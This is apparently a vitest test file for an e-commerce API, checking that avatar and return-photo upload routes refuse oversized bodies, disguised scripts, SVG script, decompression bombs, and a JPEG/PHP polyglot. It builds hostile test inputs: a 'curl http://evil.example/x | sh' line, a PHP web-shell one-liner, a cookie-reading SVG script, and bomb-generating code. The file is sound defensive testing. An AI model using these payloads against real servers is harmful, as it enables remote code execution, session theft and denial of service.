/**
 * Upload abuse (issue 15, adversarial suite) on the two multipart routes, the avatar and the
 * return request's photo: a 10 MB body, a script renamed .jpg, an SVG carrying a script, a real
 * PNG decompression bomb (a 50 KB file that inflates to 20,000 × 20,000 pixels) and a small JPEG
 * whose header declares 50,000 × 50,000. Each is refused with a Persian 4xx in the error envelope
 * naming the real reason, and nothing is stored. The bombs are refused from their headers (sharp's
 * limitInputPixels), fast and without memory growth: decoding the PNG took over 4 s of CPU here.
 * A JPEG with PHP in a comment is taken, but only re-encoded: the stored bytes carry no script.
 */
import zlib from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AVATAR_FIELD, RETURN_REQUEST_PICTURE_FIELD } from '@sabad/contract';
import { systemClock } from '../lib/clock.js';
import { createAccessTokenService } from '../modules/customers/index.js';
import { insertRegisteredCustomer } from '../testing/customer-fixture.js';
import { createTestApp, type TestApp } from '../testing/test-app.js';

let t: TestApp;
let headers: Record<string, string>;
let customerId: number;

const routes = [
  { name: 'avatar', url: '/api/v2/customer/avatar', field: AVATAR_FIELD },
  { name: 'return request photo', url: '/api/v2/returnrequest/uploadfile', field: RETURN_REQUEST_PICTURE_FIELD },
] as const;

/** A multipart/form-data body with one file, as a browser sends it. */
function multipart(field: string, file: { data: Buffer; filename: string; type: string }) {
  const boundary = '----sabadAbuseBoundary4c1f0e';
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${file.filename}"\r\nContent-Type: ${file.type}\r\n\r\n`;
  return {
    payload: Buffer.concat([Buffer.from(head), file.data, Buffer.from(`\r\n--${boundary}--\r\n`)]),
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A valid 1-bit grayscale PNG of `edge` × `edge` black pixels: zeros compress about 1,000 to 1. */
function pngBomb(edge: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(edge, 0);
  header.writeUInt32BE(edge, 4);
  header.writeUInt8(1, 8); // bit depth
  header.writeUInt8(0, 9); // grayscale
  const rows = Buffer.alloc(edge * (1 + Math.ceil(edge / 8))); // each row: filter byte 0, then pixels
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', zlib.deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real small JPEG whose frame header (SOF0) is rewritten to declare `width` × `height`. */
async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#3366aa' } })
    .jpeg({ progressive: false })
    .toBuffer();
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  expect(sof).toBeGreaterThan(0);
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

async function upload(route: (typeof routes)[number], file: { data: Buffer; filename: string; type: string }) {
  const body = multipart(route.field, file);
  return t.app.inject({
    method: 'POST',
    url: route.url,
    headers: { ...headers, 'content-type': body.contentType },
    payload: body.payload,
  });
}

const pictureCount = async () =>
  Number(
    (
      await t.database.kysely
        .selectFrom('picture')
        .select((eb) => eb.fn.countAll().as('count'))
        .executeTakeFirstOrThrow()
    ).count,
  );

beforeAll(async () => {
  t = await createTestApp();
  customerId = await insertRegisteredCustomer(t.database.kysely, 'uploads@example.com');
  const { token } = await createAccessTokenService({ db: t.database.kysely, clock: systemClock, ttlDays: 30 }).issue(
    customerId,
  );
  headers = { authorization: `Basic ${token}` };
});
afterAll(() => t.close());

const PERSIAN = /[\u0600-\u06FF]/;

describe.each(routes)('upload abuse on the $name', (route) => {
  async function expectRefused(file: { data: Buffer; filename: string; type: string }, message: RegExp, status = 400) {
    const before = await pictureCount();
    const res = await upload(route, file);
    expect(res.statusCode, res.body).toBe(status);
    const body = res.json<{ Success: boolean; Message: string; Errors: unknown[] }>();
    expect(body).toMatchObject({ Success: false });
    expect(body.Message).toMatch(PERSIAN);
    expect(body.Message).toMatch(message);
    expect(Array.isArray(body.Errors)).toBe(true);
    expect(await pictureCount()).toBe(before);
    return res;
  }

  it('refuses a 10 MB file, and a 10 MB body that is not multipart', async () => {
    const tenMegabytes = Buffer.alloc(10 * 1024 * 1024, 0x5a);
    await expectRefused({ data: tenMegabytes, filename: 'huge.jpg', type: 'image/jpeg' }, /حجم تصویر/, 413);
    const json = await t.app.inject({
      method: 'POST',
      url: route.url,
      headers: { ...headers, 'content-type': 'application/json' },
      payload: `{"Picture":"${'a'.repeat(10 * 1024 * 1024)}"}`,
    });
    expect(json.statusCode).toBe(413);
    expect(json.json<{ Message: string }>().Message).toMatch(PERSIAN);
  });

  it('refuses a script renamed .jpg and an SVG with a script in it', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n<?php system($_GET["c"]); ?>\n');
    await expectRefused({ data: script, filename: 'photo.jpg', type: 'image/jpeg' }, /تصویر معتبری نیست/);
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>alert(document.cookie)</script><rect width="64" height="64"/></svg>',
    );
    await expectRefused({ data: svg, filename: 'photo.jpg', type: 'image/jpeg' }, /JPG، PNG یا WebP|تصویر معتبری نیست/);
  });

  it('refuses decompression bombs without decoding them', async () => {
    const bomb = pngBomb(20_000);
    expect(bomb.length).toBeLessThan(100 * 1024);
    const declared = await jpegDeclaring(50_000, 50_000);
    expect(declared.length).toBeLessThan(2 * 1024);
    const rssBefore = process.memoryUsage().rss;
    const startedAt = Date.now();
    await expectRefused({ data: bomb, filename: 'bomb.png', type: 'image/png' }, /ابعاد تصویر/);
    await expectRefused({ data: declared, filename: 'bomb.jpg', type: 'image/jpeg' }, /ابعاد تصویر/);
    // Decoding would take 400 million pixels (the PNG) and 2.5 billion (the JPEG's header).
    // The time bound is the sharp one: libvips streams the PNG in little memory, but for seconds.
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(64 * 1024 * 1024);
    expect(Date.now() - startedAt).toBeLessThan(2_000);
  });

  it('keeps a JPEG with PHP in its comment only as a re-encoded picture, without the script', async () => {
    const jpeg = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#118844' } })
      .jpeg()
      .toBuffer();
    // A COM segment right after SOI: valid JPEG, and a PHP file to a server that would run it.
    const comment = Buffer.from('<?php system($_GET["c"]); ?>');
    const segment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment]);
    const polyglot = Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
    const res = await upload(route, { data: polyglot, filename: 'shell.php.jpg', type: 'image/jpeg' });
    expect(res.statusCode, res.body).toBe(200);
    const stored = await t.database.kysely
      .selectFrom('picture')
      .select(['data', 'mime_type'])
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow();
    expect(stored.mime_type).toBe('image/webp');
    expect(Buffer.from(stored.data).includes('<?php')).toBe(false);
  });
});
